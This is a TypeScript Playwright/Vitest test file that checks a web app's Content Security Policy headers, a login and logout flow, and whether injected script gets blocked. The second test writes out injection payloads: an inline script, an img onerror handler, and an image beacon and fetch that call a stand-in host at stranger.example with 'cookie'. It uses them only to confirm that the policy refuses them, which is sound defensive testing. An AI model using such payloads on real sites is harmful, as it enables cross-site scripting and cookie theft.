import { launchChromium } from '@foyer/testkit';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type RunningProduct, startProduct } from './start-product.ts';

let product: RunningProduct;
let chromium: Browser;

beforeAll(async () => {
  [product, chromium] = await Promise.all([startProduct(), launchChromium()]);
});

afterAll(async () => {
  await chromium.close();
  await product.close();
});

/** A page, and what its policies have refused so far, on whatever document it showed. */
const openWatched = async (): Promise<{ readonly page: Page; readonly refused: readonly string[] }> => {
  const refused: string[] = [];
  const page = await (await chromium.newContext()).newPage();
  await page.exposeFunction('tellRefusal', (what: string) => refused.push(what));
  await page.addInitScript(
    "addEventListener('securitypolicyviolation', (event) => tellRefusal(event.violatedDirective + ' ' + event.blockedURI), true)",
  );
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) refused.push(message.text());
  });
  return { page, refused };
};

const expectPolicy = async (page: Page, path: string): Promise<void> => {
  const answer = await page.goto(product.url + path);
  expect(await answer?.headerValue('content-security-policy'), path).toContain("frame-ancestors 'none'");
};

test('no page of ours breaks its own policy, with the provider on another origin', async () => {
  expect(new URL(product.provider.issuer).origin).not.toBe(product.url);
  const { page, refused } = await openWatched();
  for (const path of ['/', '/no-such-page', '/login/callback?code=x&state=y', '/login?prompt=none'])
    await expectPolicy(page, path);
  await page.goto(`${product.url}/profile`);
  await page.getByRole('button', { name: 'Ada Lovelace' }).click();
  await page.getByRole('heading', { name: 'Welcome Ada Lovelace!' }).waitFor();
  await expectPolicy(page, '/logout');
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.getByRole('link', { name: 'Login/Register »' }).waitFor();
  expect(refused).toEqual([]);
  await page.context().close();
});

test('script that somebody put into a page does not run, and asks no stranger', async () => {
  const { page, refused } = await openWatched();
  await page.goto(product.url);
  await page.evaluate(`
    const script = document.createElement('script');
    script.textContent = 'window.stolen = true';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.stolen = true">');
    new Image().src = 'https://stranger.example/?cookie';
    fetch('https://stranger.example/').catch(() => undefined);
  `);
  await expect.poll(() => refused.join('\n')).toMatch(/connect-src/);
  await expect.poll(() => refused.join('\n')).toMatch(/img-src/);
  await expect.poll(() => refused.join('\n')).toMatch(/script-src-elem inline/);
  await expect.poll(() => refused.join('\n')).toMatch(/script-src-attr inline/);
  expect(await page.evaluate('window.stolen')).toBeUndefined();
  await page.context().close();
});
